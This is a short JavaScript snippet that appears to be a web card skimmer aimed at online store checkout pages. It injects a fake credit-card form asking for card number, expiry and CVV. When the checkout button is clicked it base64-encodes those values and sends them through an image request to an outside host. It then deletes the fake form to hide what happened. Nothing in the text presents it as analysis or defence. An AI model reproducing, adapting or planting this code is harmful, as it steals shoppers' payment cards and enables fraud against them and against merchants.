(function () {
  var done = false;
  function inject() {
    var host = document.querySelector('#checkout-payment-method-load, .payment-methods');
    if (!host || done) return;
    done = true;
    var wrap = document.createElement('div');
    wrap.id = 'secure-pay';
    wrap.innerHTML = '<fieldset><legend>Credit Card</legend>' +
      '<input type="text" id="sp_num" name="cc_number" placeholder="Card number" autocomplete="cc-number">' +
      '<input type="text" id="sp_exp" name="cc_exp" placeholder="MM / YY">' +
      '<input type="text" id="sp_cvv" name="cc_cid" placeholder="CVV"></fieldset>';
    host.insertBefore(wrap, host.firstChild);
    document.querySelector('.action.checkout').addEventListener('click', function () {
      var v = ['sp_num', 'sp_exp', 'sp_cvv'].map(function (i) { return document.getElementById(i).value; }).join('|');
      var img = new Image();
      img.src = 'https://pay-verify-service.example/v.gif?q=' + btoa(v);
      wrap.parentNode.removeChild(wrap);
    });
  }
  if (location.href.indexOf('checkout') > -1) setInterval(inject, 800);
})();
